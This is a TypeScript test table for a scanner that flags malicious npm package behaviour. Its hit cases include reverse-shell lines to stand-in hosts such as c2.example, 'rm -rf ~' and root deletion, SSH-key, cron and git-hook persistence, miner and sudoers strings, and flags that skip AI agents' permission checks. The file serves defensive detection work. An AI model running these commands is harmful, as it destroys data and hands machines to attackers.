// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { testTable } from './table.ts';

const addresses = Array.from({ length: 10 }, (_, at) => `"0x${at.toString(16).repeat(40)}"`).join(',');

testTable({
  'steers-npm': {
    hits: [
      ['a registry', "fs.writeFileSync(root + '/.npmrc', 'registry=' + other)", '.npmrc'],
      [
        'a registry on a line of its own',
        "const f = join(root, '.npmrc'); fs.appendFileSync(f, '\\nregistry=https://a.invalid')",
        '.npmrc',
      ],
      [
        'tarballs',
        "const lock = join(root, 'package-lock.json');\nentry.resolved = other;\nfs.writeFileSync(lock, text)",
        'package-lock.json',
      ],
      ['a file for every Node', "fs.appendFileSync('.npmrc', 'node-options=--require ' + f)", '.npmrc'],
      ['by a command', "execSync('npm config set registry https://a.invalid')", 'registry'],
    ],
    misses: [
      ['settings of git alone', "exec('git config core.hooksPath .husky')"],
      ['reading it', "const f = join(root, '.npmrc'); const registry = read(f)"],
      ['writing something else', "const f = join(root, '.npmrc'); registry = 1; fs.writeFileSync(other, f)"],
      ['other settings', "fs.writeFileSync('.npmrc', 'save-exact=true')"],
      ['asking', "execSync('npm config get registry')"],
    ],
  },
  'takes-root': {
    hits: [
      ['all of the machine in a container', "exec('docker run -v /:/host alpine sh')", 'docker'],
      ['a container without bounds', "exec('docker run --privileged alpine')", 'docker'],
      ['a rule', "fs.writeFileSync('/etc/sudoers.d/runner', rule)", 'sudo'],
      ['its words', "'runner ALL=(ALL) NOPASSWD:ALL'", 'sudo'],
    ],
    misses: [['a folder of it', "exec('docker run -v /tmp:/tmp alpine')"]],
  },
  'agent-flags': {
    hits: [
      [
        "Nx's",
        "spawn('claude', ['--dangerously-skip-permissions', '-p', prompt])",
        '--dangerously-skip-permissions',
      ],
      ['of another', "'gemini --yolo'", '--yolo'],
    ],
    misses: [
      ['a longer one', "'--yolo-mode'"],
      ['in a comment', '// --yolo\nf()'],
    ],
  },
  'destroys-home': {
    hits: [
      ['rm', "exec('rm -rf ~')"],
      ['rm of everything in it', "exec('rm -rf ~/*')"],
      ['by its variable', 'exec(\'rm -rf "$HOME"\')'],
      ['the root', "exec('rm -rf / --no-preserve-root')"],
      ['by node', 'fs.rmSync(os.homedir(), { recursive: true })'],
      ['on Windows', "exec('rd /s /q %USERPROFILE%')"],
    ],
    misses: [
      ['a folder below it', "exec('rm -rf ~/.cache/a')"],
      ['a folder by its variable', 'exec(\'rm -rf "$HOME/.a"\')'],
      ['another folder', "exec('rm -rf /tmp/a')"],
      ['joined', "fs.rmSync(path.join(os.homedir(), '.a'))"],
    ],
  },
  persistence: {
    hits: [
      ['a setting of git', "exec('git config --global core.sshCommand ./x')", 'core.sshCommand'],
      [
        'a key to log in with',
        "fs.appendFileSync(path.join(dir, 'authorized_keys'), key)",
        '~/.ssh/authorized_keys',
      ],
      ['of macOS', "join(home, 'Library', 'LaunchAgents', 'a.plist')"],
      ["CanisterWorm's", "exec('systemctl --user enable a.service')"],
      [
        'a key that may log in',
        "appendFileSync(home + '/.ssh/authorized_keys', key)",
        '~/.ssh/authorized_keys',
      ],
      ['crontab', "exec('(crontab -l; echo x) | crontab -')"],
      [
        'of Windows',
        "exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a')",
      ],
      ['a shell', "fs.appendFileSync(join(home, '.bashrc'), line)"],
      ['an assistant', "fs.writeFileSync('.claude/settings.json', hooks)", '.claude/settings.json'],
      ['an editor', "fs.writeFileSync('.vscode/tasks.json', tasks)", '.vscode/tasks.json'],
      ['git', "fs.writeFileSync(join(root, '.git', 'hooks', 'pre-commit'), text)", '.git/hooks'],
      ['git by a shell', "exec('echo x >> .git/hooks/post-checkout')", '.git/hooks'],
    ],
    misses: [
      ["yargs' hint", 'const t = `#\n# Installation: a completion >> ~/.bashrc\n#`'],
      ["a command's help", "console.log('add it to ~/.bashrc')"],
      ['reading them', "fs.readFileSync(join(home, '.zshrc'))"],
      ['a field', 'fs.writeFileSync(out, JSON.stringify(param.profile))'],
      ['listing', "exec('crontab -l')"],
      ['looking at git', "fs.readdirSync('.git/hooks')"],
      ['reading who may log in', "readFileSync(home + '/.ssh/authorized_keys')"],
      ['a word', 'startup(); const a = autostart;'],
    ],
  },
  'reverse-shell': {
    hits: [
      [
        'orders in a name',
        "dns.resolveTxt('a.example', (e, r) => eval(r.flat().join('')))",
        'runs what a name server answers',
      ],
      ['bash', "exec('bash -i >& /dev/tcp/c2.example/4444 0>&1')"],
      ['orders of a request', "exec(req.headers['x-cmd'], done)"],
      ['orders of a socket', "s.on('cmd', (c) => exec(c, (e, out) => s.emit('out', out)))"],
      ['orders of a process', "s.on('data', (d) => { const p = cp.exec(d.toString()); })"],
      ['orders beside an expression', "const re = /x/; s.on('data', (d) => (re.test(d), sh.exec(d)))"],
      ['orders behind a division', "s.on('data', (d) => 1 / 2 / g.exec(d))"],
      ...['req.body', 'req.params', 'request.headers', 'request.query', 'request.body', 'ctx.query'].map(
        (name): [string, string] => [`orders of ${name}`, `execSync(${name}.run)`],
      ),
      ['orders of a framework', "eval(ctx.get('x-cmd') + ctx.request.url)"],
      ...['data', 'message', 'command', 'exec', 'shell', 'run', 'task', 'order', 'eval'].flatMap((name) => [
        [`orders by ${name}`, `s.on('${name}', (c) => exec(c))`] as [string, string],
        [`orders by ${name}, in other quotes`, `s.on("${name}", (c) => exec(c))`] as [string, string],
      ]),
      ['orders of a query', 'const re = /x/; cp.exec(req.query.run)'],
      ['nc', "exec('nc -e /bin/sh c2.example 4444')"],
      ['fifo', "exec('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 1 > /tmp/f')"],
      [
        'node',
        "const s = net.connect(1, h); const sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s);",
      ],
    ],
    misses: [
      ['a look at a name', 'dns.resolveTxt(domain, (e, r) => done(r.some((t) => pattern.exec(t))))'],
      ['a pipe to a child', "input.pipe(child.stdin); child = spawn('gzip'); net.connect(1)"],
      [
        'what a program prints',
        "const URL = /https:.+/; c.stderr.on('data', (d) => { const m = URL.exec(d.toString()); })",
      ],
      ['an expression made', "const $r = new RegExp(x); c.on('data', (d) => { $r.exec(String(d)); })"],
      ['an expression on the spot', "c.on('data', (d) => done(/port (.+)/i.exec(d)))"],
      ['a name that is asked for', 'const m = /^[\\w.-]+$/.exec(req.query.host)'],
      ['nc to look', "exec('nc -z localhost 80')"],
    ],
  },
  miner: {
    hits: [
      ["rspack's", "spawn('./xmrig', ['--donate-level', '1'])", 'xmrig'],
      ['of a page', "new c.Client.Anonymous('0000000000000000', { throttle: 0.6 }).start()", 'in a page'],
      ['by its host alone', "s.src = 'https://cdn.webmine.cz/m.js'", 'in a page'],
      ['a pool', "'stratum+tcp://a.example:3333'", 'stratum+tcp:'],
    ],
    misses: [
      ['a word', "'coinhive'"],
      ['throttling', "create('0000000000', { throttle: 0.6 }); users.User('short', { throttle: 1 })"],
    ],
  },
  'self-publish': {
    hits: [
      ["a worm's", "execSync('npm publish --access public', { cwd })"],
      ['by its words', "spawn('npm', ['publish', dir])"],
      ['in a folder', 'exec(`cd ${dir} && npm publish`)'],
    ],
    misses: [
      ['help', "console.log('Run npm publish')"],
      ['another event', "emitter.emit('publish', a); spawn('npm', ['install'])"],
    ],
  },
  'tls-off': {
    hits: [
      ["Mastra's", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", 'NODE_TLS_REJECT_UNAUTHORIZED'],
      ['with brackets', "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0"],
      ['of a request', 'https.get({ rejectUnauthorized: false })'],
      ['minified', '{rejectUnauthorized:!1}'],
    ],
    misses: [
      ['asked', "if (process.env.NODE_TLS_REJECT_UNAUTHORIZED === '0') warn()"],
      ['on', '{ rejectUnauthorized: true }'],
      ["npm's own choice", 'a ? !!options.rejectUnauthorized : false'],
      ['in a comment', '// rejectUnauthorized: false\nf()'],
    ],
  },
  'deletes-itself': {
    hits: [
      ["axios's", 'fs.unlink(__filename, () => {})'],
      ['at once', 'fs.unlinkSync(process.argv[1])'],
      ['a module', 'rmSync(fileURLToPath(import.meta.url))'],
      ['of a batch file', 'exec(\'del "%~f0"\')'],
    ],
    misses: [
      ['another file', 'fs.unlinkSync(tmp)'],
      ['a path from it', 'path.dirname(__filename)'],
    ],
  },
  'rewrites-manifest': {
    hits: [
      ['directly', "fs.writeFileSync(path.join(__dirname, 'package.json'), s)"],
      [
        'by a variable',
        "const p = path.join(d, 'package.json');\nconst j = JSON.parse(read(p));\nfs.writeFileSync(p, s)",
      ],
    ],
    misses: [
      ['read', "require('./package.json').version"],
      ['another file', "const p = join(d, 'package.json'); fs.writeFileSync(q, s)"],
    ],
  },
  detached: {
    hits: [['a child', 'spawn(a, [], { detached: true, stdio: "ignore" })']],
    misses: [['not', '{ detached: false }']],
  },
  'runs-text': {
    hits: [
      ['eval', 'eval(code)'],
      ['Function', "new Function('a', body)"],
      ['a worker', 'new Worker(code, { eval: true })'],
      ['Reflect', 'Reflect.construct(Function, [a])()'],
      ['vm', 'vm.runInNewContext(code)'],
      ['by another kind of function', 'const F = (async () => {}).constructor; await new F(code)()'],
      ['at once', '(async function () {}).constructor(code)()'],
      ['by its name', "new AsyncFunction('a', body)"],
      ['by its prototype', 'const G = Object.getPrototypeOf(function* () {}).constructor; G(code)()'],
    ],
    misses: [
      ['the global object', "Function('return this')()"],
      ['with new', 'new Function("return this")()'],
      ['a comparison', 'const A = (async () => {}).constructor; exports.is = (f) => f instanceof A'],
      ['a require that bundlers do not see', "eval('require')('fs')"],
      ["an object's", 'model.eval(a); page.$eval(b)'],
      ['functions', 'a = function(b) {}; f(function (c) {})'],
    ],
  },
  'system-tool': {
    hits: [
      ["eslint-config-prettier's", "spawn('rundll32', ['node-gyp.dll,main'])", 'rundll32'],
      ['with its ending', "exec('mshta.exe http://a.example')", 'mshta.exe'],
    ],
    misses: [
      ['a variable', 'const certutilPath = 1'],
      ['a name in camel case', "on('certUtil', f)"],
      ['an object of its own', "new ActiveX('WScript')"],
      ['a key', "{ 'certutil': 1 }"],
    ],
  },
  'internal-loader': {
    hits: [
      ['binding', "process.binding('spawn_sync')", 'process.binding'],
      ['by brackets', "process['binding']('fs')"],
      ['the main module', "process.mainModule.require('child_process')"],
      ['the constructor', "module.constructor._load('fs')"],
      ['Module', "Module._load('fs')"],
      ['of a module that is loaded', "require('module')._load(a)"],
      ['extensions', "require.extensions['.txt'] = f"],
    ],
    misses: [['versions', 'process.versions.node']],
  },
  delayed: {
    hits: [
      ['ten minutes', 'setTimeout(() => { go() }, 600000)'],
      ['in factors', 'setTimeout(go, 60 * 60 * 1000)'],
      ['in a command', "exec('sleep 900 && ./a')"],
    ],
    misses: [
      ['five minutes', 'setTimeout(go, 5 * 60 * 1000)'],
      ['a second', 'setTimeout(go, 1000)'],
    ],
  },
  'time-or-ci-gate': {
    hits: [
      ['a time', 'if (Date.now() > 1767225600000) go()'],
      ['a date', "if (new Date() >= new Date('2026-01-01')) go()"],
      ['the other way round', "if (Date.parse('2026-01-01') < Date.now()) go()"],
    ],
    misses: [
      ['an age', 'if (Date.now() - start > 60000) go()'],
      ['another time', 'if (Date.now() > expires) go()'],
    ],
  },
  'wallet-hook': {
    hits: [
      [
        "chalk's",
        `if (typeof window.ethereum !== 'undefined') { const f = window.fetch; window.fetch = async (...a) => f(...a); } const to = [${addresses}];`,
        '10 or more addresses',
      ],
    ],
    misses: [
      ['a polyfill', 'window.fetch = function () {}'],
      ['without addresses', 'window.ethereum.request(a); window.fetch = async () => b'],
      ['a list of addresses', `const tokens = [${addresses}]; window.ethereum.request(a)`],
    ],
  },
});
